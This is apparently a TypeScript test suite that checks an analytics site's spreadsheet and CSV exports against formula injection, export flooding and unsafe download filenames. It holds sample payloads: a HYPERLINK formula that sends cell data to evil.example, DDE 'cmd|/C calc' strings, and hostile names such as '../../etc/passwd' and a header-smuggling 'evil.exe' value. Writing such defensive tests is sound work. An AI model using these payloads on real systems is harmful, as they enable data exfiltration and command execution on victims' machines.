/** Attack 17: spreadsheet files with hostile values. */
import { hour } from '@footfall/contract/durations'
import { unzipSync } from 'fflate'
import { beforeAll, describe, expect, test } from 'vitest'
import { type ReportWebsite, testWorld } from '../conformance/report-world.ts'

/** Each would be a formula, or begin one, where a cell took it for one. */
const formulas = [
  '=HYPERLINK("https://evil.example/?"&A1,"click")',
  '+1+cmd|/C calc!A0',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '=cmd|\u0027/C calc\u0027!A0',
]
const now = '2025-06-04T00:00:00Z'
const world = testWorld(now)
let website: ReportWebsite

const tenYears = {
  time_range: 'custom_time_range',
  start_time: Date.parse('2015-06-04T00:00:00Z') / 1000,
  end_time: Date.parse(now) / 1000,
}

/** The period of the hostile values. Over ten years, an answer is read from a hundred months. */
const june = { ...tenYears, start_time: Date.parse('2025-06-01T00:00:00Z') / 1000 }

beforeAll(async () => {
  website = await world.website()
  await website.send(
    formulas.flatMap((text, i) => {
      const time = Date.parse('2025-06-02T00:00:00Z') + i * hour
      const query = new URLSearchParams({
        utm_source: text,
        utm_medium: text,
        utm_campaign: text,
        utm_content: text,
        utm_term: text,
      })
      const visitor_id = `visitor ${i}`
      return [
        { time, visitor_id, title: text, url: `https://example.com/${encodeURIComponent(text)}?${query}` },
        {
          time: time + 1000,
          visitor_id,
          kind: 'custom' as const,
          name: text.trim(),
          props: { [text.trim()]: text },
        },
      ]
    }),
  )
  // Something in every one of ten years.
  await website.send(
    Array.from({ length: 120 }, (_, month) => ({
      time: Date.UTC(2015, 6 + month, 3),
      visitor_id: `old ${month}`,
      url: `https://example.com/month/${month}`,
    })).filter(({ time }) => time < Date.parse('2025-06-01')),
  )
})

function take(path: string, input: object): Promise<Response> {
  const { token, address } = world.person
  return fetch(`${world.server.url}/api/overview/${path}`, {
    method: 'POST',
    headers: {
      'content-type': 'application/json',
      'access-token': token ?? '',
      'd-lang': 'en',
      'x-forwarded-for': address,
    },
    body: JSON.stringify({ website_id: website.websiteId, filters: [], ...june, ...input }),
  })
}

/** As many at once as a table is grouped by. */
const groups = [
  { group_by: ['page', 'page_title', 'utm_source'] },
  { group_by: ['utm_medium', 'utm_campaign', 'utm_content'] },
  { group_by: ['utm_term', 'event', 'event_property'] },
]

describe('safety 17: exports', () => {
  test.each(groups)('safety 17: a cell of $group_by that begins like a formula is text', async (group) => {
    const answer = await take('export_group_list', group)
    expect(answer.status).toBe(200)
    const files = unzipSync(new Uint8Array(await answer.arrayBuffer()))
    const names = Object.keys(files)
    expect(names.filter((name) => /externalLink|vba|macro|embeddings/i.test(name))).toEqual([])
    for (const name of names.filter((one) => one.startsWith('xl/worksheets/'))) {
      const xml = new TextDecoder('utf-8', { fatal: true }).decode(files[name])
      expect(xml, 'no formula, no link').not.toMatch(/<(f|hyperlink)[ >]|t="str"/)
      for (const [cell, inner = ''] of xml.matchAll(/<c [^>]*>(.*?)<\/c>/gs))
        if (/[=+\-@]/.test(inner.replaceAll(/<[^>]*>/g, '').charAt(0)) && !/<v>-?[\d.E+-]+<\/v>/.test(inner))
          expect(cell).toContain('t="inlineStr"')
    }
    const all = names
      .filter((one) => one.startsWith('xl/worksheets/'))
      .map((name) => new TextDecoder().decode(files[name]).toLowerCase())
    const rows = all.flatMap((xml) => xml.split('</row>'))
    const cells = rows.map((row) => row.split('<c ').filter((cell) => /(=|%3d)hyperlink\(/.test(cell)))
    expect(Math.max(...cells.map(({ length }) => length)), 'they are there, whole').toBe(3)
  })

  test.each(groups)('safety 17: nor does a CSV’s cell of $group_by begin like one', async (group) => {
    const answer = await take('export_group_list', { ...group, format: 'csv' })
    const rows = (await answer.text()).split('\r\n').slice(1)
    expect(rows.length).toBeGreaterThan(formulas.length - 3)
    for (const row of rows) expect(row).not.toMatch(/(^|,)"?[=+\-@\t\r\n]/)
  })

  test('safety 17: ten years fifty times at once are queued or refused; the reports go on meanwhile', async () => {
    const asked = Promise.all(
      Array.from({ length: 50 }, async (_, i) => {
        const filters = [{ field: 'page', operator: 'not_in', value: [`/${i}`] }]
        const answer = await take('export_group_list', {
          ...tenYears,
          group_by: ['time', 'page'],
          time_unit: 'month',
          filters,
        })
        const type = answer.headers.get('content-type') ?? ''
        if (type.includes('spreadsheetml'))
          return unzipSync(new Uint8Array(await answer.arrayBuffer())) && 'file'
        const { code, data } = (await answer.json()) as { code: number; data: { reason: string } }
        return `${code} ${data.reason}`
      }),
    )
    const report = { website_id: website.websiteId, time_range: 'last_7_days', filters: [] }
    expect(await world.person.send('/overview/total', report)).toMatchObject({ code: 200 })
    const outcomes = await asked
    expect(new Set(outcomes)).toEqual(new Set(['file', '429 export_busy']))
    expect(outcomes.filter((outcome) => outcome === 'file').length).toBeGreaterThanOrEqual(10)
  })

  test('safety 17: the file’s name is one of RFC 6266, whatever the website is called', async () => {
    const names = [
      '../../etc/passwd',
      'a"; filename="evil.exe',
      'x.html%00',
      '网站 “一”',
      "it's (1)*",
      '<script>',
    ]
    for (const website_name of names) {
      await world.person.call('/setting/website_edit', { website_id: website.websiteId, website_name })
      const answer = await take('export_total', { time_range: 'today' })
      await answer.body?.cancel()
      const disposition = answer.headers.get('content-disposition') ?? ''
      const [, plain = '', encoded = ''] =
        /^attachment; filename="([\x20-\x7e]*)"; filename\*=UTF-8''([\w.~!#$&+^`|%-]*)$/.exec(disposition) ??
        []
      expect(plain, disposition).toMatch(/^[^"\\/:*?<>|%]+\.xlsx$/)
      const name = decodeURIComponent(encoded)
      expect(name).toMatch(/^[^"\\/:*?<>|]+\.xlsx$/)
      expect(name.startsWith(website_name.replace(/[\\/:*?"<>|]/g, '_'))).toBe(true)
      expect(answer.headers.get('x-content-type-options')).toBe('nosniff')
    }
  })
})
